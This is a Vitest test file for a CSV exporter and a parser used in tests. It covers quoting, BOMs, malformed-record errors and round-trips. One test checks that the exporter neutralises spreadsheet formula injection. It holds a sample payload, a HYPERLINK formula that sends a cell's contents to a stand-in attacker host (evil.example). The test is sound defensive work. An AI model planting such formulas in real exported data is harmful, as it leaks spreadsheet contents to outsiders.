import { describe, expect, it } from 'vitest';
import { toCsv } from '#shared/csv.ts';
import { CsvError, parseCsv } from '../support/csv.ts';

describe("CSV out (toCsv) and back (the tests' parseCsv)", () => {
  it('reads a header and records, with quotes, commas, newlines and a BOM', () => {
    const text = '\ufeffname,notes,hours\r\n张三,"a, b",4\n"李""四","line1\nline2",2.5\n';
    const { header, records } = parseCsv(text);
    expect(header).toEqual(['name', 'notes', 'hours']);
    expect(records).toEqual([
      { line: 2, values: { name: '张三', notes: 'a, b', hours: '4' } },
      { line: 3, values: { name: '李"四', notes: 'line1\nline2', hours: '2.5' } },
    ]);
  });

  it('reports the line of a malformed record', () => {
    expect(() => parseCsv('a,b\n1,2\n3\n')).toThrow(CsvError);
    try {
      parseCsv('a,b\n1,2\n3\n');
    } catch (error) {
      expect((error as CsvError).line).toBe(3);
    }
    expect(() => parseCsv('a\n"open')).toThrow(/unterminated/);
    expect(() => parseCsv('')).toThrow(/empty/);
  });

  it('round-trips through toCsv', async () => {
    const csv = await toCsv(
      ['a', 'b'],
      [
        ['x,y', 'he said "hi"'],
        [1, null],
      ],
    );
    expect(csv).toBe('a,b\r\n"x,y","he said ""hi"""\r\n1,\r\n');
    expect(parseCsv(csv).records[0]!.values).toEqual({ a: 'x,y', b: 'he said "hi"' });
  });

  it('neutralises text a spreadsheet would run as a formula (issue 13, defect 6)', async () => {
    const evil = '=HYPERLINK("http://evil.example/?q="&A1,"工资单")';
    const csv = await toCsv(
      ['name', 'n'],
      [
        [evil, -5],
        ['+1', 3],
        ['-x', 0],
        ['@SUM(A1)', 1],
        ['\tx', 2],
        ['安全', 4],
      ],
    );
    expect(parseCsv(csv).records.map((r) => r.values.name)).toEqual([
      `'${evil}`,
      "'+1",
      "'-x",
      "'@SUM(A1)",
      "'\tx".trim(),
      '安全',
    ]);
    expect(parseCsv(csv).records[0]!.values.n).toBe('-5');
  });
});
